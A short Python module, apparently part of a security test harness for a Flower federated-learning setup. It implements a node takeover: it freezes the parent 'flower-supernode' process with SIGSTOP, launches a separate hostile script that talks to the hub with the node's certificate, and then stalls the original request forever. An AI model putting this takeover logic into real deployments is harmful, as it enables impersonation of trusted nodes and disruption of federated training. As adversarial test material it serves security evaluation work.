"""User code that takes the collaborator over: it stops the SuperNode and speaks to the hub in its place, with its certificate."""

import os
import signal
import subprocess
import sys
import time
from pathlib import Path

from steps import hostile


def begin(attacks: list[str]) -> None:
    """Does not return: what it was asked is never answered."""
    address = f"{os.environ.get('PANAL_LOOPBACK') or '127.0.0.1'}:{os.environ['PANAL_GATEWAY_PORT']}"
    running = subprocess.Popen([sys.executable, str(Path(hostile.__file__)), address, *attacks])
    for pid in _ancestors():
        if "flower-supernode" in Path(f"/proc/{pid}/cmdline").read_text():
            os.kill(pid, signal.SIGSTOP)
    running.wait()
    while True:
        time.sleep(60)


def _ancestors() -> list[int]:
    found, pid = [], os.getppid()
    while pid > 1:
        found.append(pid)
        pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
    return found
